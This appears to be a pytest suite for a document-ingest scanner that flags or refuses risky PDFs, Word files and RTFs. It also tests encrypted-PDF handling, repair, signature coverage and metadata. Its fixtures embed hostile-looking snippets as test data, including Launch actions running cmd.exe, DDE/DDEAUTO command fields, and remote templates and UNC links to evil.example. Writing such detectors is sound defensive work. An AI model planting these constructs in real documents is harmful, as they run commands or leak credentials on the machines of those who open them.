"""Active content, encryption, damage, signatures and metadata: what ingest finds without running anything."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest

from handlers.documents.inspect import inspect
from handlers.documents.policy import POLICY
from jobqueue.errors import Permanent, RejectedFile
from jobqueue.tasks import DocumentInfo
from tests.unit import hostile_files as hostile
from tests.unit import office_files as office

Look = Callable[..., DocumentInfo]


@pytest.fixture(params=["pymupdf", "pypdfium2"])
def look(request: pytest.FixtureRequest, tmp_path: Path) -> Look:
    def call(data: bytes, name: str = "deed", **more: Any) -> DocumentInfo:
        path = tmp_path / "upload"
        path.write_bytes(data)
        wanted = {"max_bytes": 10_000_000, "max_pages": 100, "engine": request.param} | more
        return DocumentInfo.model_validate(inspect(str(path), name, **wanted))

    return call


JS = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
DDE = "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (office.pdf_with(f"/OpenAction {JS}"), "pdf_javascript"),
        (office.pdf_with(f"/OpenAction {JS}"), "pdf_open_action"),
        (office.pdf_with("/AA<</WC<</S/Named/N/Print>>>>"), "pdf_open_action"),
        (office.pdf_with("", b"<</Type/Action/S/JavaScript/JS(x)>>"), "pdf_javascript"),
        (office.pdf_with("/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(price.xlsx)/EF<</F 5 0 R>>>>]>>>>",
                         b"<</Length 1>>stream\nx\nendstream"), "pdf_embedded_file"),
        (office.pdf_with("/AcroForm<</Fields[]/XFA(x)>>"), "pdf_xfa"),
        (office.pdf_with("", b"<</Type/Annot/Subtype/RichMedia>>"), "pdf_rich_media"),
        (office.pdf_with("", b"<</S/URI/URI(file:///C:/pay.exe)>>"), "pdf_file_link"),
        (office.pdf_with("", b"<</S/SubmitForm/F<</FS/URL/F(https://a.example)>>>>"), "pdf_submit"),
        (office.changed(office.docx(), {"word/embeddings/oleObject1.bin": b"x"}), "office_ole"),
        (office.docx_with_relation("image", "https://a.example/pixel.png"), "office_external_link"),
        (office.docx_with_relation("hyperlink", "file:///C:/pay.exe"), "office_file_link"),
    ],
)  # fmt: skip
def test_what_honest_documents_have_too_is_let_pass_and_told_of(look: Look, data: bytes, code: str) -> None:
    info = look(data)
    assert code in {finding.code for finding in info.findings}
    assert all(finding.severity == "warn" for finding in info.findings)
    assert {finding.detail for finding in info.findings} <= set(info.warnings)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (office.pdf_with("/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>"), "pdf_launch"),
        (office.pdf_with("", b"<</Type/Filespec/UF(invoice.pdf.exe)/EF<</F 4 0 R>>>>"), "pdf_embedded_program"),
        (office.pdf_with("", b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>"), "pdf_network_file"),
        (office.pdf_with("/NeedsRendering true/AcroForm<</Fields[]/XFA(x)>>"), "pdf_dynamic_xfa"),
        (office.changed(office.docx(), {"word/vbaProject.bin": b"x"}), "office_macros"),
        (office.docx_with_relation("attachedTemplate", "https://evil.example/t.dotm"), "office_remote_template"),
        (office.docx_with_relation("oleObject", "https://evil.example/a", part="document"), "office_external_object"),
        (office.changed(office.docx(), {"word/activeX/activeX1.bin": b"x"}), "office_activex"),
        (office.docx_of_body('<w:p><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>'),
         "office_ole_package"),
        (office.changed(office.docx(), {"word/embeddings/oleObject1.bin": office.compound({"\x01Ole10Native": b"MZ"})}),
         "office_ole_package"),
        (office.docx_of_body(DDE), "office_dde"),
        (rb"{\rtf1{\object\objemb{\*\objdata 0105}}Deed}", "rtf_object"),
        (rb"{\rtf1{\*\template http://evil.example/t.dotm}Deed}", "rtf_template"),
        (rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}Deed}", "rtf_dde"),
    ],
)  # fmt: skip
def test_what_harms_whoever_opens_it_is_refused_by_name(look: Look, data: bytes, code: str) -> None:
    assert POLICY[code].severity == "refuse"
    with pytest.raises(RejectedFile, match=rf"^deed .*\[{code}\].*: print it to PDF") as caught:
        look(data)
    assert isinstance(caught.value, Permanent)


def test_objects_in_compressed_streams_and_encrypted_strings_are_looked_at(look: Look, tmp_path: Path) -> None:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(office.pdf_with("", b"<</S/Launch/F(cmd.exe)>>"))) as pdf:
        pdf.Root["/X"] = pdf.get_object(5, 0)
        pdf.save(
            out,
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            encryption=pikepdf.Encryption(user="mill", owner="owner"),
        )
    assert b"Launch" not in out.getvalue()
    with pytest.raises(RejectedFile, match="pdf_launch"):
        look(out.getvalue(), password="mill", copy_to=str(tmp_path / "copy"))
    assert not (tmp_path / "copy").exists()


def test_an_encrypted_pdf_is_read_from_a_copy_with_its_password_and_refused_without(look: Look, tmp_path: Path) -> None:
    locked, copy = office.locked_pdf("mill"), tmp_path / "copy"
    with pytest.raises(RejectedFile, match=r"^deed is protected by a password: submit it with its password"):
        look(locked, copy_to=str(copy))
    with pytest.raises(RejectedFile, match="the one given doesn't open it") as caught:
        look(locked, password="water", copy_to=str(copy))
    assert "water" not in str(caught.value)
    assert not copy.exists()
    info = look(locked, password="mill", copy_to=str(copy))
    assert (info.copy_made, info.size_bytes) == ("decrypted", len(locked))
    assert look(copy.read_bytes()).copy_made is None
    assert look(office.pdf_with(), password="needless", copy_to=str(copy)).copy_made is None


@pytest.mark.parametrize("make", [office.unended_pdf, office.misnumbered_pdf])
def test_a_damaged_pdf_that_has_all_its_pages_is_read_from_a_repaired_copy(
    look: Look, tmp_path: Path, make: Callable[[], bytes]
) -> None:
    copy = tmp_path / "copy"
    info = look(make(), copy_to=str(copy))
    assert info.copy_made == "repaired"
    assert any("repaired copy" in warning for warning in info.warnings)
    assert (tmp_path / "upload").read_bytes() == make()
    assert look(copy.read_bytes()).warnings == []


def test_a_pdf_whose_cut_took_content_away_is_not_repaired(look: Look, tmp_path: Path) -> None:
    for data in (hostile.truncated_pdf(), office.unended_pdf_without_its_picture()):
        with pytest.raises(RejectedFile, match="cut off"):
            look(data, copy_to=str(tmp_path / "copy"))
    assert not (tmp_path / "copy").exists()


def test_signatures_are_listed_with_what_they_cover(look: Look) -> None:
    def signed(end: int) -> bytes:
        return office.pdf_with(
            "/AcroForm<</Fields[5 0 R]>>",
            b"<</FT/Sig/T(Buyer)/V<</Type/Sig/SubFilter/adbe.pkcs7.detached/Name(Ingrid Vossberg)"
            b"/Reason(I agree)/M(D:20250303120000Z)/ByteRange[0 100 200 %06d]>>>>" % end,
        )

    whole = signed(len(signed(0)) - 200)
    info = look(whole)
    [signature] = info.signatures
    assert (signature.field, signature.signer, signature.reason) == ("Buyer", "Ingrid Vossberg", "I agree")
    assert (signature.signed_at, signature.covers_whole_file) == ("2025-03-03T12:00:00+00:00", True)
    assert info.warnings == []
    info = look(whole + b"\n%%EOF\n")
    assert not info.signatures[0].covers_whole_file


def test_forms_fonts_page_sizes_language_and_xmp_are_read(look: Look) -> None:
    xmp = b"<x:xmpmeta><pdfaid:part>2</pdfaid:part><pdfaid:conformance>B</pdfaid:conformance></x:xmpmeta>"
    info = look(
        office.pdf_with("/Lang(en-US)/Metadata 5 0 R", b"<</Length %d>>stream\n%s\nendstream" % (len(xmp), xmp))
    )
    assert info.metadata["language"] == "en-US"
    assert info.metadata["page_sizes"] == "612 x 792 pt"
    assert (info.metadata["fonts"], info.metadata["pdf_a"]) == ("1", "2b")
    assert look(hostile.form_pdf()).fields == {"price": "425,000 USD"}


def test_a_form_whose_fields_run_in_a_circle_ends(look: Look) -> None:
    data = office.pdf_with("/AcroForm<</Fields[5 0 R]>>", b"<</T(a)/FT/Tx/V(1)/Kids[5 0 R 5 0 R]>>")
    assert look(data).fields == {"a": "1"}


def test_a_word_file_s_properties_are_read(look: Look) -> None:
    metadata = look(office.docx()).metadata
    assert (metadata["title"], metadata["author"], metadata["language"]) == (
        "Lease of the mill",
        "Thistlewick Homes",
        "en-US",
    )
    assert metadata["created"].startswith("20")
